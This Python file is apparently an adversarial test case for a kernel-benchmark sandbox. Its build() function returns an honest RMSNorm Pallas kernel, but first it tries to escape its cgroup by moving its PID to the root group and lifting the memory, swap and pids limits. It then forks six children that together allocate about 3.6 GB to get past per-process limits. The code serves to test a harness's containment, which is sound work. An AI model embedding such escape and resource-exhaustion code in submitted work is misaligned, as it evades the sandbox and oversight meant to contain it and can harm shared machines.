"""Adversarial: an honest RMSNorm kernel whose build first tries to leave its control group
or raise its limit, then forks 6 children that each take and touch ~600 MB at once (each
under the per-process limit, 3.6 GB together), reaps them and returns the honest kernel."""

import mmap
import os
import time

import jax
from jax.experimental import pallas as pl

CHILDREN = 6
CHILD_BYTES = 600 << 20
PAGE = mmap.PAGESIZE


def _kernel(x_ref, w_ref, o_ref):
    x = x_ref[...]
    ms = (x * x).mean(axis=-1, keepdims=True)
    o_ref[...] = x * jax.lax.rsqrt(ms + 1e-6) * w_ref[...]


def _rmsnorm(x, w):
    return pl.pallas_call(_kernel, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(
        x, w.reshape(1, -1))


def _try_to_escape():
    try:
        with open("/proc/self/cgroup") as f:
            lines = f.read().splitlines()
    except OSError:
        return
    for line in lines:
        _, controllers, path = line.split(":", 2)
        for name in controllers.split(","):
            own = f"/sys/fs/cgroup/{name}{path}"
            for target, text in ((f"/sys/fs/cgroup/{name}/cgroup.procs", str(os.getpid())),
                                 (f"{own}/memory.limit_in_bytes", "-1"),
                                 (f"{own}/memory.memsw.limit_in_bytes", "-1"),
                                 (f"{own}/pids.max", "max")):
                try:
                    with open(target, "w") as f:
                        f.write(text)
                except OSError:
                    pass


def _hog():
    block = mmap.mmap(-1, CHILD_BYTES)
    for offset in range(0, CHILD_BYTES, PAGE):
        block[offset] = 1
    time.sleep(3)


def build():
    _try_to_escape()
    children = []
    for _ in range(CHILDREN):
        pid = os.fork()
        if pid == 0:
            try:
                _hog()
            finally:
                os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    return _rmsnorm
